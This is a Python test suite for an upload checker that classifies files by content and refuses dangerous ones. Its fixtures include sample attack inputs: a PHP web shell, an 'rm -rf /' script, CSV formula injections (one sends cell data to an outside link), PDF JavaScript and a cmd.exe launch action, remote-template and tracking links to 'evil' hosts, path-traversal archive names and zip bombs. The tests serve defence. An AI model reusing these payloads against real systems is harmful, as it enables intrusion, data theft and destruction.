"""What a file is and whether it may be kept: by content, whatever it was called."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib

import pytest
from PIL import Image
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from consult.files import archives, checking, metadata, pdfs
from consult.files.rules import SENTENCES, FileRefused, Kind, Reason
from tests import samples

TAKEN = samples.accepted()
WINDOWS_PROGRAM = b"MZ\x90\0\x03\0\0\0" + bytes(60) + b"This program cannot be run in DOS mode." + bytes(200)
SCRIPT = b"<script>fetch('/workspace/fr/')</script>"


def reason(raw: bytes) -> Reason:
    with pytest.raises(FileRefused) as refused:
        checking.check(raw)
    assert "{" not in refused.value.message()
    return refused.value.reason


@pytest.mark.parametrize("kind", Kind)
def test_each_kind_is_known_by_its_content(kind: Kind) -> None:
    assert checking.check(TAKEN[kind]) is kind


def test_every_reason_has_a_sentence_with_the_facts_it_is_raised_with() -> None:
    assert set(SENTENCES) == set(Reason)
    for one in Reason:
        assert FileRefused(one, limit=20).message().endswith(".")


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        (b"", Reason.EMPTY),
        (b" \n\n", Reason.EMPTY),
        (WINDOWS_PROGRAM, Reason.NOT_TAKEN),
        (b"\x7fELF\x02\x01\x01" + bytes(100), Reason.NOT_TAKEN),
        (b"#!/bin/sh\nrm -rf /\n", Reason.MARKUP),
        (b"<!doctype html><title>PDF</title>", Reason.MARKUP),
        (b"\xef\xbb\xbf  \n<HTML><body>", Reason.MARKUP),
        (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', Reason.MARKUP),
        (b'<?xml version="1.0"?><svg/>', Reason.MARKUP),
        (b"Minutes of the meeting\n" + SCRIPT, Reason.MARKUP),
        (b"<?php system($_GET['c']);", Reason.MARKUP),
        (b"GIF89a" + bytes(30), Reason.NOT_TAKEN),
        (b"{\\rtf1 text}", Reason.NOT_TAKEN),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), Reason.OLD_OFFICE),
        (
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(64) + "EncryptedPackage".encode("utf-16-le"),
            Reason.LOCKED,
        ),
        (b"\x1f\x8b\x08" + bytes(40), Reason.ARCHIVE),
        (b"Rar!\x1a\x07\x00" + bytes(40), Reason.ARCHIVE),
        (samples.zipped({"a.txt": b"a"}), Reason.ARCHIVE),
        (samples.zipped({}), Reason.ARCHIVE),
        ("Réunion d’été".encode("cp1252"), Reason.NOT_UTF8),
        ("Réunion".encode("utf-16"), Reason.NOT_UTF8),
        (b"text with a \0 in it", Reason.NOT_TAKEN),
        (b"text with an escape \x1b[2J", Reason.NOT_TAKEN),
        (b"a;b\n=cmd|' /C calc'!A0;1\n", Reason.FORMULA),
        (b'a;b\n"  =HYPERLINK(""http://x/?""&A1)";1\n', Reason.FORMULA),
        (b"a;b\n@SUM(1+1)*cmd|'/c calc'!A0;1\n", Reason.FORMULA),
    ],
)
def test_what_is_refused_by_its_first_look(raw: bytes, expected: Reason) -> None:
    assert reason(raw) is expected


def test_figures_and_dashes_in_a_table_are_no_formulas() -> None:
    assert checking.check(b"a;b\n-12;+ 3 %\n- rien;=\n") is Kind.CSV


def test_a_text_with_commas_is_no_table() -> None:
    assert checking.check(b"Bonjour, Claire\nMerci, Paule\n") is Kind.TEXT
    assert checking.check("Il écrit <bonjour> et 3 < 4.".encode()) is Kind.TEXT


# ── two kinds at once ──────────────────────────────────────────────────────────

ZIP = samples.zipped({"evil.class": b"\xca\xfe\xba\xbe"})


@pytest.mark.parametrize("kind", [Kind.PDF, Kind.PNG, Kind.JPEG, Kind.WEBP])
def test_an_archive_after_a_document_is_found(kind: Kind) -> None:
    assert reason(TAKEN[kind] + ZIP) is Reason.MIXED


@pytest.mark.parametrize("kind", [Kind.PNG, Kind.WEBP, Kind.PDF])
def test_nothing_may_follow_the_end(kind: Kind) -> None:
    assert reason(TAKEN[kind] + SCRIPT) is Reason.MIXED


def test_a_program_after_a_photograph_is_found_and_what_a_camera_appends_is_not() -> None:
    assert reason(TAKEN[Kind.JPEG] + SCRIPT) is Reason.MIXED
    assert reason(TAKEN[Kind.JPEG] + WINDOWS_PROGRAM + b"\xff\xd9") is Reason.MIXED
    assert checking.check(TAKEN[Kind.JPEG] + TAKEN[Kind.JPEG]) is Kind.JPEG


def test_a_page_or_a_pdf_in_the_head_of_a_picture_is_found() -> None:
    comment = b"\xff\xfe" + struct.pack(">H", len(SCRIPT) + 2) + SCRIPT
    assert reason(b"\xff\xd8" + comment + TAKEN[Kind.JPEG][2:]) is Reason.MIXED
    data = b"%PDF-1.7 1 0 obj"
    chunk = struct.pack(">I", len(data)) + b"tEXt" + data + struct.pack(">I", zlib.crc32(b"tEXt" + data))
    png = TAKEN[Kind.PNG]
    assert reason(png[:33] + chunk + png[33:]) is Reason.MIXED


def test_a_page_that_begins_like_a_pdf_is_refused() -> None:
    assert reason(b"%PDF-1.7\n<html>" + SCRIPT + b"\n%%EOF") is Reason.MIXED
    assert reason(b"MZ" + TAKEN[Kind.PDF]) is Reason.MIXED


def test_an_office_file_is_an_archive_from_its_first_byte_to_its_last() -> None:
    raw = TAKEN[Kind.DOCX]
    assert reason(raw + b"%PDF-1.4") is Reason.MIXED
    assert reason(WINDOWS_PROGRAM + raw) is Reason.NOT_TAKEN
    out = io.BytesIO(raw)
    with zipfile.ZipFile(out, "a") as archive:
        archive.comment = b"<?php ?>"
    assert reason(out.getvalue()) is Reason.MIXED


# ── archives ───────────────────────────────────────────────────────────────────


def test_a_bomb_is_refused_before_it_is_unpacked(monkeypatch: pytest.MonkeyPatch) -> None:
    bomb = samples.rezip(TAKEN[Kind.DOCX], {"word/media/a.png": bytes(6 * 1024 * 1024)})
    monkeypatch.setattr(zipfile.ZipFile, "testzip", lambda _archive: pytest.fail("unpacked"))
    assert len(bomb) < 60_000
    assert reason(bomb) is Reason.BOMB


def test_the_total_counts_too(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(archives, "MOST_UNPACKED", 5_000)
    assert reason(TAKEN[Kind.DOCX]) is Reason.BOMB
    monkeypatch.undo()
    monkeypatch.setattr(archives, "MOST_MEMBERS", 3)
    assert reason(TAKEN[Kind.DOCX]) is Reason.BOMB


def test_a_member_that_lies_about_its_size_is_found() -> None:
    raw = bytearray(samples.zipped({"mimetype": b"x", "content.xml": b"<a/>" * 50_000}))
    where = raw.rfind(b"PK\x01\x02")
    raw[where + 24 : where + 28] = struct.pack("<I", 10)
    assert reason(bytes(raw)) is Reason.DAMAGED


def test_a_torn_or_encrypted_archive_is_refused() -> None:
    raw = TAKEN[Kind.DOCX]
    assert reason(raw[: len(raw) // 2]) is Reason.DAMAGED
    locked = bytearray(raw)
    where = locked.find(b"PK\x01\x02")
    locked[where + 8] |= 1
    assert reason(bytes(locked)) is Reason.LOCKED


@pytest.mark.parametrize(
    ("changed", "expected"),
    [
        ({"word/vbaProject.bin": b"x"}, Reason.MACROS),
        ({"word/VBAPROJECT.BIN": b"x"}, Reason.MACROS),
        ({"word/activeX/activeX1.xml": b"<a/>"}, Reason.MACROS),
        ({"word/embeddings/oleObject1.bin": b"MZ"}, Reason.EMBEDDED),
        ({"word/embeddings/book.xlsm": b"PK"}, Reason.EMBEDDED),
        ({"word/afchunk.mht": b"x"}, Reason.EMBEDDED),
        ({"run.exe": b"MZ"}, Reason.EMBEDDED),
        ({"../../etc/cron.d/x": b"x"}, Reason.MIXED),
        ({"/etc/passwd": b"x"}, Reason.MIXED),
        ({"WORD/document.xml": b"<a/>"}, Reason.MIXED),
        ({"word/_rels/settings.xml.rels": samples.relation("attachedTemplate", "https://evil/t.dotm")},
         Reason.LINKED),
        ({"word/_rels/document.xml.rels": samples.relation("image", "http://evil/pixel.png")}, Reason.LINKED),
        ({"word/_rels/document.xml.rels": samples.relation("oleObject", "\\\\evil\\a")}, Reason.LINKED),
        ({"word/_rels/document.xml.rels": samples.relation("frame", "file://evil/share")}, Reason.LINKED),
        ({"xl/externalLinks/externalLink1.xml": b"<ddeLink/>"}, Reason.LINKED),
        ({"word/_rels/document.xml.rels": b'<!DOCTYPE a [<!ENTITY e "x">]><a>&e;</a>'}, Reason.DAMAGED),
        ({"word/_rels/document.xml.rels": b"<a>"}, Reason.DAMAGED),
    ],
)  # fmt: skip
def test_what_an_office_file_may_not_hold(changed: dict[str, bytes], expected: Reason) -> None:
    assert reason(samples.rezip(TAKEN[Kind.DOCX], changed)) is expected


@pytest.mark.parametrize(
    "changed",
    [
        {"word/_rels/document.xml.rels": samples.relation("hyperlink", "https://www.cnil.fr/")},
        {"word/_rels/settings.xml.rels": samples.relation("attachedTemplate", "file:///C:/Users/a/t.dotx")},
        {"ppt/embeddings/Microsoft_Excel_Sheet1.xlsx": b"PK"},
    ],
)
def test_links_one_clicks_and_charts_are_fine(changed: dict[str, bytes]) -> None:
    assert checking.check(samples.rezip(TAKEN[Kind.DOCX], changed)) is Kind.DOCX


def test_a_macro_file_renamed_is_known_by_its_declared_parts() -> None:
    types = samples.part(TAKEN[Kind.DOCX], "[Content_Types].xml").replace(
        b"vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"vnd.ms-word.document.macroEnabled.main+xml",
    )
    assert reason(samples.rezip(TAKEN[Kind.DOCX], {"[Content_Types].xml": types})) is Reason.MACROS


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        (samples.open_document(Basic__Standard__Module1_xml=b"<m/>"), Reason.MACROS),
        (samples.open_document(**{"Scripts__python__a.py": b"x"}), Reason.MACROS),
        (samples.open_document(**{"META-INF__manifest.xml": b"<m><encryption-data/></m>"}), Reason.LOCKED),
        (samples.open_document(content='<draw:image xlink:href="http://evil/p.png"/>'), Reason.LINKED),
        (samples.open_document(content="<text:p>"), Reason.DAMAGED),
        (samples.zipped({"mimetype": b"application/epub+zip"}), Reason.NOT_TAKEN),
        (samples.zipped({"content.xml": b"<a/>", "mimetype": b"x"}), Reason.ARCHIVE),
    ],
)
def test_what_an_open_document_may_not_hold(raw: bytes, expected: Reason) -> None:
    assert reason(raw) is expected


# ── PDF ────────────────────────────────────────────────────────────────────────


def _script_at_the_opening() -> bytes:
    def change(writer: object) -> None:
        action = DictionaryObject({NameObject("/JS"): TextStringObject("app.alert(1)")})
        writer._root_object[NameObject("/OpenAction")] = action  # type: ignore[attr-defined]

    return samples.pdf(change)


def _script_in_a_name_written_otherwise() -> bytes:
    return samples.pdf_with_action("/JavaScript", JS="app.alert(1)").replace(b"/JavaScript", b"/J#61vaScript")


def _form_of_scripts() -> bytes:
    def change(writer: object) -> None:
        form = DictionaryObject({NameObject("/XFA"): TextStringObject("x")})
        writer._root_object[NameObject("/AcroForm")] = form  # type: ignore[attr-defined]

    return samples.pdf(change)


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        (_script_at_the_opening(), Reason.PDF_SCRIPT),
        (samples.pdf_with_action("/JavaScript"), Reason.PDF_SCRIPT),
        (_script_in_a_name_written_otherwise(), Reason.PDF_SCRIPT),
        (_form_of_scripts(), Reason.PDF_SCRIPT),
        (samples.pdf(lambda writer: writer.add_attachment("a.exe", b"MZ")), Reason.PDF_EMBEDDED),
        (samples.pdf_with_action("/Launch", F="cmd.exe"), Reason.PDF_LAUNCH),
        (samples.pdf_with_action("/GoToR", F="other.pdf"), Reason.PDF_LAUNCH),
        (samples.pdf_with_action("/SubmitForm", F="https://evil/"), Reason.PDF_SENDS),
        (samples.pdf(lambda writer: writer.encrypt("secret")), Reason.LOCKED),
        (samples.pdf(lambda writer: writer.encrypt("", "owner")), Reason.LOCKED),
        (b"%PDF-1.7\nnothing of a PDF\n%%EOF\n", Reason.DAMAGED),
        (samples.pdf()[:200], Reason.DAMAGED),
        (samples.pdf() + b"\n<!-- x -->", Reason.MIXED),
    ],
)
def test_what_a_pdf_may_not_do(raw: bytes, expected: Reason) -> None:
    assert reason(raw) is expected


def test_a_script_packed_into_a_stream_of_objects_is_found() -> None:
    raw = samples.pdf_with_action("/JavaScript", JS="app.alert(1)")
    packed = samples.packed(raw)
    assert b"/JavaScript" not in packed
    assert reason(packed) is Reason.PDF_SCRIPT


def test_a_link_in_a_pdf_is_fine() -> None:
    assert checking.check(samples.pdf_with_action("/URI", URI="https://www.cnil.fr/")) is Kind.PDF


def test_a_pdf_nested_too_deep_or_of_too_many_objects_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pdfs, "MOST_OBJECTS", 2)
    assert reason(TAKEN[Kind.PDF]) is Reason.BOMB


# ── pictures ───────────────────────────────────────────────────────────────────


def test_a_picture_of_too_many_pixels_is_refused_by_its_head() -> None:
    png = bytearray(TAKEN[Kind.PNG])
    png[16:24] = struct.pack(">II", 9_000, 9_000)
    png[29:33] = struct.pack(">I", zlib.crc32(bytes(png[12:29])))
    assert reason(bytes(png)) is Reason.TOO_MANY_PIXELS
    png[16:24] = struct.pack(">II", 60_000, 60_000)
    png[29:33] = struct.pack(">I", zlib.crc32(bytes(png[12:29])))
    assert reason(bytes(png)) is Reason.TOO_MANY_PIXELS


@pytest.mark.parametrize("kind", [Kind.PNG, Kind.JPEG, Kind.WEBP])
def test_a_torn_picture_is_refused(kind: Kind) -> None:
    out = io.BytesIO()
    name = "JPEG" if kind is Kind.JPEG else kind.name
    Image.effect_noise((200, 200), 90).convert("RGB").save(out, name)
    raw = out.getvalue()
    assert checking.check(raw) is kind
    assert reason(raw[: len(raw) // 2]) is Reason.DAMAGED
    assert reason(raw[:16]) is Reason.DAMAGED


def test_torn_bytes_are_refused_or_taken_and_never_a_fault() -> None:
    """Some thousand files with a few bytes changed, cut or doubled: no other exception comes out."""
    chance, whole = (
        random.Random(9),
        {**TAKEN, Kind.JPEG: samples.photograph(), Kind.DOCX: samples.tracked_word()},
    )
    for kind, raw in whole.items():
        for _turn in range(60):
            torn = bytearray(raw)
            for _change in range(chance.randint(1, 5)):
                where, length = chance.randrange(max(len(torn), 1)), chance.randint(1, 40)
                doubled = bytes(torn[where : where + length])
                torn[where : where + chance.choice((1, length))] = chance.choice(
                    (b"", doubled * 2, chance.randbytes(1))
                )
            try:
                found = checking.check(bytes(torn))
            except FileRefused:
                continue
            metadata.told(bytes(torn), found)
            assert found is kind or {found, kind} == {Kind.TEXT, Kind.CSV}
